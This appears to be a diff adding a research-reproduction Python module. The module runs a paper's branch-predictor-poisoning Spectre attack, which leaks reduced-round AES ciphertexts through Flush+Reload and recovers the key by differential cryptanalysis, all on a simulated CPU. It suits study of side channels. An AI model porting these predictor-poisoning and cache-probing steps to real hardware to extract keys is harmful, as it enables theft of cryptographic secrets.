@@ -1,0 +1,259 @@
+"""The Section 9 speculative key-extraction attack, end to end.
+
+Pipeline (matching the paper's "(Mis)Training the Branch Predictor" /
+"Recovering the Ciphertext" / "Key Extraction Algorithm" subsections):
+
+1. **Locate the branch.**  The attacker profiles the oracle once, reads
+   the PHR it leaves behind (``Read_PHR``), and feeds the value to
+   Pathfinder, which returns the per-iteration PHR values at the loop's
+   back-edge branch.
+2. **Poison.**  ``Write_PHT`` plants a not-taken prediction at the
+   ``(loop branch PC, PHR of iteration i)`` coordinate.
+3. **Leak.**  The attacker flushes the ``rounds`` field (delaying branch
+   resolution) and the probe array, invokes the oracle, and Flush+Reloads
+   the probe.  The transient early exit ran ``aesenclast`` on the
+   intermediate state and the oracle's encoding gadget touched probe slots
+   indexed by the reduced-round ciphertext bytes.
+4. **Extract.**  Reduced-round ciphertexts from iteration-1 exits feed the
+   differential cryptanalysis in :mod:`repro.aes.keyrecovery`, recovering
+   the master key.
+"""
+
+from __future__ import annotations
+
+from dataclasses import dataclass
+from typing import Dict, List, Optional
+
+from repro.aes.core import reduced_round_ciphertext
+from repro.aes.oracle import EncryptionOracle
+from repro.cpu.machine import Machine
+from repro.pathfinder import ControlFlowGraph, PathSearch
+from repro.pathfinder.report import build_report
+from repro.primitives import PhrReader, PhtWriter, VictimHandle
+from repro.utils.rng import DeterministicRng
+
+
+def profile_loop_phrs(machine: Machine, result_trace, program,
+                      entry: int, loop_block_start: int) -> Dict[int, int]:
+    """Map loop iteration (1-based) -> PHR value at the loop back edge.
+
+    Shared by the oracle attacks: feeds an observed run's history to
+    Pathfinder and reads the per-iteration PHR values off the recovered
+    path (the poisoning coordinates for ``Write_PHT``).
+    """
+    from repro.cpu.phr import replay_taken_branches
+
+    taken = [(r.pc, r.target) for r in result_trace if r.taken]
+    observed = replay_taken_branches(len(taken), taken).doublets()
+    cfg = ControlFlowGraph(program, entry=entry)
+    paths = PathSearch(cfg, mode="exact").search(observed)
+    if not paths:
+        raise RuntimeError("Pathfinder found no path for the oracle run")
+    report = build_report(cfg, paths[0],
+                          phr_capacity=machine.config.phr_capacity)
+    iteration_phr: Dict[int, int] = {}
+    iteration = 0
+    for block, phr_value in report.phr_at_block:
+        if block == loop_block_start:
+            iteration += 1
+            iteration_phr[iteration] = phr_value
+    return iteration_phr
+
+
+@dataclass
+class LeakResult:
+    """One attacked oracle invocation."""
+
+    #: Bytes of the transient (reduced-round) ciphertext; -1 where the
+    #: channel was ambiguous for that position.
+    recovered: List[int]
+    #: The architectural (full-round) ciphertext the oracle returned.
+    ciphertext: bytes
+    #: Fraction of the 16 byte positions recovered unambiguously.
+    coverage: float
+
+
+class AesSpectreAttack:
+    """Drives the attack against one oracle instance."""
+
+    def __init__(
+        self,
+        machine: Machine,
+        key: bytes,
+        use_read_phr_primitive: bool = False,
+        rng: Optional[DeterministicRng] = None,
+    ):
+        self.machine = machine
+        self.oracle = EncryptionOracle(machine, key)
+        self.rng = rng if rng is not None else DeterministicRng(0xAE5)
+        #: When True, the per-iteration PHR values are obtained through the
+        #: actual Read_PHR primitive (slower); when False, from a direct
+        #: profiling run (equivalent -- Read_PHR's own evaluation shows
+        #: 100% fidelity -- and what the high-trial benchmarks use).
+        self.use_read_phr_primitive = use_read_phr_primitive
+        self._iteration_phr: Optional[Dict[int, int]] = None
+        self._last_poisoned_phr: Optional[int] = None
+
+    # ------------------------------------------------------------------
+    # step 1: locate the loop branch's per-iteration PHR values
+    # ------------------------------------------------------------------
+
+    def _profile_plaintext(self) -> bytes:
+        return bytes(16)  # any fixed block; control flow is data-independent
+
+    def profile(self) -> Dict[int, int]:
+        """Map loop iteration (1-based) -> PHR value at the loop branch."""
+        if self._iteration_phr is not None:
+            return self._iteration_phr
+        machine = self.machine
+        oracle = self.oracle
+
+        # Run the oracle once from a cleared PHR to train the PHTs and
+        # observe its history.
+        machine.clear_phr()
+        ciphertext, result = oracle.run_and_read(self._profile_plaintext())
+        del ciphertext
+        taken = [(r.pc, r.target) for r in result.trace if r.taken]
+
+        if self.use_read_phr_primitive:
+            observed = self._read_history_via_primitive(len(taken))
+            cfg = ControlFlowGraph(oracle.program,
+                                   entry=oracle.program.address_of("oracle"))
+            paths = PathSearch(cfg, mode="exact").search(observed)
+            if not paths:
+                raise RuntimeError(
+                    "Pathfinder found no path for the oracle run"
+                )
+            report = build_report(cfg, paths[0],
+                                  phr_capacity=machine.config.phr_capacity)
+            loop_block = self.oracle.victim.loop_block_start
+            iteration_phr: Dict[int, int] = {}
+            iteration = 0
+            for block, phr_value in report.phr_at_block:
+                if block == loop_block:
+                    iteration += 1
+                    iteration_phr[iteration] = phr_value
+        else:
+            iteration_phr = profile_loop_phrs(
+                machine, result.trace, oracle.program,
+                oracle.program.address_of("oracle"),
+                self.oracle.victim.loop_block_start,
+            )
+        self._iteration_phr = iteration_phr
+        return iteration_phr
+
+    def _read_history_via_primitive(self, taken_count: int) -> List[int]:
+        """Obtain the oracle's history through the Read_PHR primitive."""
+        machine = self.machine
+        handle = VictimHandle(
+            machine,
+            self.oracle.program,
+            setup=lambda state, memory: self.oracle.victim.provision(
+                memory, self._profile_plaintext()
+            ),
+            entry=self.oracle.program.address_of("oracle"),
+        )
+        reader = PhrReader(machine, handle, rng=self.rng.fork(1))
+        result = reader.read(count=min(taken_count,
+                                       machine.config.phr_capacity))
+        return result.doublets
+
+    # ------------------------------------------------------------------
+    # steps 2+3: poison, run, leak
+    # ------------------------------------------------------------------
+
+    def leak_reduced_round(self, plaintext: bytes,
+                           exit_iteration: int) -> LeakResult:
+        """Induce an early exit at ``exit_iteration`` and leak the RRC."""
+        machine = self.machine
+        oracle = self.oracle
+        iteration_phr = self.profile()
+        if exit_iteration not in iteration_phr:
+            raise ValueError(
+                f"loop has iterations {sorted(iteration_phr)}, "
+                f"not {exit_iteration}"
+            )
+
+        # (Mis)train: plant a not-taken prediction for that iteration only.
+        # A previous trial's poison decays slowly (one taken retrain per
+        # victim call against a saturated 3-bit counter), so the attacker
+        # first heals the coordinate it poisoned last time -- standard
+        # hygiene when measuring many exit points back to back.
+        writer = PhtWriter(machine)
+        target_phr = iteration_phr[exit_iteration]
+        if (self._last_poisoned_phr is not None
+                and self._last_poisoned_phr != target_phr):
+            writer.write(oracle.victim.loop_branch_pc,
+                         self._last_poisoned_phr, taken=True)
+        writer.write(oracle.victim.loop_branch_pc, target_phr, taken=False)
+        self._last_poisoned_phr = target_phr
+
+        # Extend the speculation window and clear the channel.
+        machine.cache.flush(oracle.victim.rounds_address)
+        oracle.channel.flush()
+
+        # The victim must see the same PHR trajectory as during profiling.
+        machine.clear_phr()
+        ciphertext, __ = oracle.run_and_read(plaintext)
+
+        # Flush+Reload: one hot slot per position is the architectural
+        # ciphertext byte; any second hot slot is the transient leak.
+        hot = set(oracle.channel.hot_slots())
+        recovered: List[int] = []
+        for position in range(16):
+            slots = {slot - 256 * position
+                     for slot in hot
+                     if 256 * position <= slot < 256 * (position + 1)}
+            slots.discard(ciphertext[position])
+            if len(slots) == 1:
+                recovered.append(slots.pop())
+            elif not slots:
+                # Transient byte equals the architectural byte.
+                recovered.append(ciphertext[position])
+            else:
+                recovered.append(-1)
+        coverage = sum(1 for byte in recovered if byte >= 0) / 16
+        return LeakResult(recovered=recovered, ciphertext=ciphertext,
+                          coverage=coverage)
+
+    # ------------------------------------------------------------------
+    # evaluation helper (paper Section 9, "Evaluation")
+    # ------------------------------------------------------------------
+
+    def ground_truth_rrc(self, plaintext: bytes, exit_iteration: int) -> bytes:
+        """The true reduced-round ciphertext for comparison."""
+        return reduced_round_ciphertext(plaintext,
+                                        self.oracle.victim.round_keys,
+                                        exit_iteration)
+
+    def success_rate(self, plaintext: bytes, exit_iteration: int) -> float:
+        """Fraction of leaked bytes matching the ground truth."""
+        leak = self.leak_reduced_round(plaintext, exit_iteration)
+        truth = self.ground_truth_rrc(plaintext, exit_iteration)
+        matches = sum(
+            1 for got, want in zip(leak.recovered, truth) if got == want
+        )
+        return matches / 16
+
+    # ------------------------------------------------------------------
+    # step 4: key extraction
+    # ------------------------------------------------------------------
+
+    def two_round_oracle(self, plaintext: bytes) -> bytes:
+        """RRC-at-iteration-1 oracle for the differential key recovery.
+
+        Retries on channel ambiguity with the same plaintext (the paper's
+        evaluation repeats measurements the same way).
+        """
+        for _ in range(8):
+            leak = self.leak_reduced_round(plaintext, exit_iteration=1)
+            if all(byte >= 0 for byte in leak.recovered):
+                return bytes(leak.recovered)
+        raise RuntimeError("side channel stayed ambiguous after retries")
+
+    def recover_key(self) -> bytes:
+        """Run the full pipeline and return the recovered AES key."""
+        from repro.aes.keyrecovery import recover_key_from_two_round_oracle
+
+        return recover_key_from_two_round_oracle(self.two_round_oracle,
+                                                 rng=self.rng.fork(2))
